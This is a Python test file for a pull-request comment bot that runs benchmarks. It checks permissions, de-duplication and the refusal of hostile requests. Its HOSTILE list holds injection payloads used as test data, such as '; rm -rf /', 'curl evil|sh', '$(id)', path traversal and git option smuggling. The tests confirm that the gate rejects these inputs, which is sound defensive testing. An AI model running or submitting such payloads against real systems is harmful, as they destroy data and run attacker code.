"""Requests by comment and by label: who may ask for what, one answer for each, and nothing run that is refused."""

import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from gate.publishing.asked import SETTINGS, RequestError, read_words
from tests.support.forge.server import FakeGitHub
from tests.support.project import Project
from tests.support.workflow_job import Ended, Job, changed, packed, pull_payload

EARLIER, LATER = "2026-01-01T00:00:00Z", "2026-01-02T00:00:00Z"


@dataclass
class Comment:
    """The workflow `comment` of pull request 7; count: jobs so far."""

    folder: Path
    project: Project
    forge: FakeGitHub
    run_id: int = 1000
    count: int = 0
    event: str = "issue_comment"

    def payload(self, body: str = "/perfgate check", **more: Any) -> dict[str, Any]:
        user = {"login": "maintainer", "type": "User"}
        comment = {"id": 5, "body": body, "created_at": LATER, "author_association": "MEMBER", "user": user}
        made: dict[str, Any] = {
            "action": "created", "issue": {"number": 7, "state": "open", "pull_request": {"url": "x"}},
            "comment": comment, "repository": {"full_name": "acme/widget", "default_branch": "main"}, "sender": user,
        }  # fmt: skip
        for path, value in more.items():
            *parents, last = path.split("__")
            at = made
            for name in parents:
                at = at[name]
            at[last] = value
        return made

    def labeled(self, label: str = "perfgate", **sender: str) -> dict[str, Any]:
        made = pull_payload(self.project, self.project.sha("main"), fork=True, action="labeled")
        made["pull_request"]["head"]["sha"] = self.forge.pulls[7].head_sha
        return made | {"label": {"name": label}, "sender": {"login": "maintainer", "type": "User"} | sender}

    def job(self, payload: dict[str, Any], name: str, **inputs: str) -> Ended:
        self.count += 1
        job = Job(
            self.project, self.folder / f"job-{self.count}", self.event, payload, self.forge.url, self.forge.token,
            run_id=self.run_id, workflow="perfgate-comment.yml", job=name,
        )  # fmt: skip
        job.more |= {"RUNNER_ENVIRONMENT": "github-hosted"}
        return job.run(**inputs)

    def ask(self, payload: dict[str, Any]) -> Ended:
        return self.job(payload, "ask", command="ask")

    def whole(self, payload: dict[str, Any], **inputs: str) -> tuple[Ended, Ended, Ended]:
        """Run the three jobs."""
        asked = self.ask(payload)
        request = asked.steps["prepare"].outputs["asked"]
        measured = self.job(payload, "measure", command="measure", request=request, **inputs)
        data = Path(measured.steps["decide"].outputs["data"])
        self.forge.add_run(self.run_id, self.forge.pulls[7].head_sha)
        name = measured.steps["decide"].outputs["artifact"]
        self.forge.add_artifact(self.run_id, name, packed(data), self.forge.pulls[7].head_sha)
        result = "failure" if measured.code else "success"
        return asked, measured, self.job(payload, "answer", command="publish", request=request, measuring=result)


@pytest.fixture
def comment(tmp_path: Path, forge: FakeGitHub) -> Comment:
    """A fork's pull request, of which the default branch is checked out, and which is three times as slow."""
    project = changed(tmp_path / "repository", base=0.1, head=0.3)
    forge.add_pull(7, project.sha(), project.sha("main"), head_repository="someone/widget")
    project.git("checkout", "-q", "main")
    return Comment(tmp_path, project, forge)


def test_the_answer_is_one_comment_first_queued_then_the_result(comment: Comment, forge: FakeGitHub) -> None:
    payload = comment.payload("/perfgate check --benchmark 'ben*' --set plan.executions=1\n")
    asked = comment.ask(payload)
    [queued] = forge.comments
    assert "### perfgate: queued" in queued["body"] and "/acme/widget/actions/runs/1000" in queued["body"]
    assert (asked.code, asked.outputs["verdict"]) == (0, "")
    _, measured, answer = comment.whole(payload)
    first = json.loads(Path(measured.steps["decide"].outputs["data"], "measurements.jsonl").read_text().split("\n")[0])
    pull = forge.pulls[7]
    # the commit that was asked about, though the default branch is checked out
    assert (first["base"]["sha"], first["head"]["sha"]) == (pull.base_sha, pull.head_sha)
    assert first["config"]["plan"]["executions"] == 1
    [told] = forge.comments
    assert (answer.code, answer.outputs["verdict"], answer.outputs["exit-code"]) == (0, "regression", "1")
    assert told["id"] == queued["id"] and "queued" not in told["body"]
    assert "`/perfgate check --benchmark 'ben*' --set plan.executions=1` of" in told["body"]
    assert "❌ **perfgate: Regression**" in told["body"]
    assert forge.statuses == [], "what a member asks for is no required check"


def test_the_same_request_twice_is_one(comment: Comment, forge: FakeGitHub) -> None:
    comment.ask(comment.payload())
    for run, body in ((1001, "/perfgate   check"), (1002, "/perfgate")):
        comment.run_id = run
        again = comment.ask(comment.payload(body))
        assert (again.code, again.steps["prepare"].outputs["asked"], len(forge.comments)) == (0, "", 1)
        assert "refused: the same was asked before, and http" in again.log
    # the jobs of the first run may be run again, another request or head is another one
    comment.run_id = 1000
    assert comment.ask(comment.payload()).steps["prepare"].outputs["asked"]
    comment.run_id = 1003
    assert comment.ask(comment.payload("/perfgate check --set plan.budget=20m")).steps["prepare"].outputs["asked"]
    forge.pulls[7].head_sha = comment.project.sha("main")
    assert comment.ask(comment.payload()).steps["prepare"].outputs["asked"]
    assert len(forge.comments) == 3


def test_the_label_does_the_same_without_arguments(comment: Comment, forge: FakeGitHub) -> None:
    comment.event = "pull_request_target"
    asked = json.loads(comment.ask(comment.labeled()).steps["prepare"].outputs["asked"])
    assert (asked["words"]["verb"], asked["pull"]["head_sha"], asked["pull"]["fork"]) == (
        "check", forge.pulls[7].head_sha, True,
    )  # fmt: skip
    for payload in (comment.labeled("bug"), comment.labeled(login="x[bot]", type="Bot")):
        assert comment.ask(payload).steps["prepare"].outputs["asked"] == ""
    stale = comment.labeled()
    forge.pulls[7].head_sha = comment.project.sha("main")
    done = comment.ask(stale)
    assert done.steps["prepare"].outputs["asked"] == "" and "refused: the head is" in done.log


# a payload that asks, and what is said instead; the last: whether a comment answers it
HOSTILE: list[tuple[dict[str, Any], str, bool]] = [
    ({"action": "edited"}, "only a new comment asks", False),
    ({"action": "deleted"}, "only a new comment asks", False),
    ({"comment__author_association": "CONTRIBUTOR"}, "only owners, members and collaborators may ask", False),
    ({"comment__author_association": "FIRST_TIME_CONTRIBUTOR"}, "only owners, members", False),
    ({"comment__author_association": "NONE"}, "only owners, members", False),
    ({"comment__author_association": "member"}, "only owners, members", False),
    ({"comment__user": {"login": "helper[bot]", "type": "Bot"}}, "a bot asks", False),
    ({"comment__user": {"login": "helper[bot]", "type": "User"}}, "a bot asks", False),
    ({"comment__user": None}, "a bot asks", False),
    ({"sender": {"login": "somebody", "type": "User"}}, "somebody else than the author", False),
    ({"issue__state": "closed"}, "the pull request is closed", True),
    ({"issue__pull_request": None}, "on an issue, not on a pull request", False),
    ({"repository__full_name": "evil/widget"}, "it is of another repository", False),
    ({"repository": None}, "it is of another repository", False),
    ({"comment__created_at": EARLIER}, "was pushed to after the comment", True),
    ({"comment__created_at": "2025-12-31T23:59:59Z"}, "was pushed to after the comment", True),
    ({"comment__created_at": "soon"}, "was pushed to after the comment", True),
    ({"body": f"/perfgate check {'b' * 40}"}, "the head is", True),
    ({"body": "/perfgate check abcdef1"}, "only a whole commit id", True),
    ({"body": "/perfgate check main"}, "only a whole commit id", True),
    ({"body": "/perfgate check --out /etc"}, "only a whole commit id", True),
    ({"body": "/perfgate check; rm -rf /"}, "write /perfgate check", True),
    ({"body": "/perfgate check\n/perfgate bisect v1"}, "a request is one line", True),
    ({"body": "/perfgate check\u2028--set build.command=x"}, "a request is one line", True),
    ({"body": "/perfgate check --set build.command='curl evil|sh'"}, "--set takes plan.budget", True),
    ({"body": "/perfgate check --set plan.sandbox=off"}, "--set takes plan.budget", True),
    ({"body": "/perfgate check --set 'plan.budget=$(id)'"}, "--set takes plan.budget", True),
    ({"body": "/perfgate check --set=plan.network=true"}, "--set takes plan.budget", True),
    ({"body": "/perfgate check --set"}, "--set needs a value", True),
    ({"body": "/perfgate check --benchmark '`@everyone`'"}, "--benchmark takes patterns", True),
    ({"body": "/perfgate check --benchmark --set"}, "--benchmark takes patterns", True),
    ({"body": "/perfgate bisect"}, "write /perfgate bisect GOOD", True),
    ({"body": "/perfgate bisect --upload-pack=x"}, "write /perfgate bisect GOOD", True),
    ({"body": "/perfgate bisect ../../x"}, "write /perfgate bisect GOOD", True),
    ({"body": "/perfgate 'check"}, "a quote is not closed", True),
    ({"body": "/perfgate action measure"}, "write /perfgate check", True),
    ({"body": f"/perfgate check --benchmark {'x' * 3000}"}, "a request is one line", True),
    ({"body": "/perfgatecheck"}, "does not begin with /perfgate", False),
    ({"body": "> /perfgate check"}, "does not begin with /perfgate", False),
]  # fmt: skip


@pytest.mark.parametrize(("changes", "why", "answered"), HOSTILE)
def test_what_is_refused_is_one_line_and_runs_nothing(
    comment: Comment, forge: FakeGitHub, changes: dict[str, Any], why: str, answered: bool
) -> None:
    done = comment.ask(comment.payload(**changes))
    prepared = done.steps["prepare"].outputs
    assert (done.code, prepared["asked"], prepared["measure"], done.said("error")) == (0, "", "false", [])
    assert why in done.log and why.replace("_", " ") in done.summary.replace("&#95;", " ") + done.log
    assert len(forge.comments) == int(answered)
    if answered:
        body = forge.comments[0]["body"].split("\n", 1)[1]
        assert body.startswith("perfgate: refused: ") and len(body.strip().splitlines()) == 1
        assert "@everyone" not in body


def test_of_a_closed_or_another_pull_request_the_forge_is_believed(comment: Comment, forge: FakeGitHub) -> None:
    forge.pulls[7].state = "closed"
    assert "refused: the pull request is closed" in comment.ask(comment.payload()).log
    forge.pulls[7].state = "open"
    forge.pulls[7].pushed = ""
    assert "was pushed to after the comment" in comment.ask(comment.payload()).log
    named = f"/perfgate check {forge.pulls[7].head_sha}"
    assert comment.ask(comment.payload(named)).steps["prepare"].outputs["asked"]


def test_what_was_pushed_meanwhile_is_not_measured(comment: Comment, forge: FakeGitHub) -> None:
    """The commit of the request is measured, whatever the head is by the time the next job begins."""
    payload = comment.payload("/perfgate check --set plan.executions=1")
    request = comment.ask(payload).steps["prepare"].outputs["asked"]
    seen = forge.pulls[7].head_sha
    forge.pulls[7].head_sha = comment.project.sha("main")
    done = comment.job(payload, "measure", command="measure", request=request)
    records = Path(done.steps["decide"].outputs["data"], "measurements.jsonl").read_text()
    assert json.loads(records.split("\n")[0])["head"]["sha"] == seen


@pytest.mark.parametrize("request_", ["", "nonsense", "{}"])
def test_without_a_request_that_was_read_nothing_is_measured(comment: Comment, request_: str) -> None:
    done = comment.job(comment.payload(), "measure", command="measure", request=request_)
    assert "measure" not in done.steps and done.code in (2, 4)


def test_a_search_is_answered(comment: Comment, forge: FakeGitHub, monkeypatch: pytest.MonkeyPatch) -> None:
    given: list[Any] = []

    def bisect(asked: Any, out: Any, _: Any) -> int:
        given.append((asked.good, asked.bad, asked.rules.benchmarks))
        out.write("c0ffee is the first slow commit </details> @everyone ```\n")
        return 3

    monkeypatch.setattr("gate.commands.bisect.bisect.run", bisect)
    _, measured, answer = comment.whole(comment.payload("/perfgate bisect v1.2 --benchmark bench"))
    assert given == [("v1.2", forge.pulls[7].head_sha, ("bench",))]
    assert (measured.code, answer.code) == (0, 0)
    [told] = forge.comments
    assert "### perfgate bisect" in told["body"] and "c0ffee is the first slow commit" in told["body"]
    assert "`/perfgate bisect v1.2 --benchmark bench` of" in told["body"]


def test_a_measuring_job_that_fails_is_told_in_the_answer(comment: Comment, forge: FakeGitHub) -> None:
    payload = comment.payload("/perfgate check --benchmark nothing")
    _, measured, answer = comment.whole(payload)
    assert measured.code == 2
    [told] = forge.comments
    assert "### perfgate could not run" in told["body"] and "nothing" in told["body"]
    assert answer.outputs["verdict"] == "error"


def test_a_request_has_one_form() -> None:
    one = read_words("/perfgate check --set=plan.budget=20m --benchmark 'a b*'")
    assert one.said == "/perfgate check --benchmark 'a b*' --set plan.budget=20m"
    assert read_words(one.said) == one
    assert read_words(f"/perfgate explain {'a' * 40}").sha == "a" * 40
    for key in SETTINGS:
        assert read_words(f"/perfgate check --set {key}=5").sets == (f"{key}=5",)
    with pytest.raises(RequestError):
        read_words("/perfgate check " + "--benchmark a " * 21)


@pytest.mark.endtoend
def test_an_explanation_is_answered_with_its_text(comment: Comment, forge: FakeGitHub) -> None:
    _, measured, answer = comment.whole(comment.payload("/perfgate explain --set plan.executions=1"))
    [told] = forge.comments
    assert "`/perfgate explain --set plan.executions=1` of" in told["body"]
    # of a program without a profiler it says why there is none
    assert "### perfgate explain" in told["body"] or "### perfgate could not run" in told["body"], measured.log
    assert answer.outputs["comment-url"]
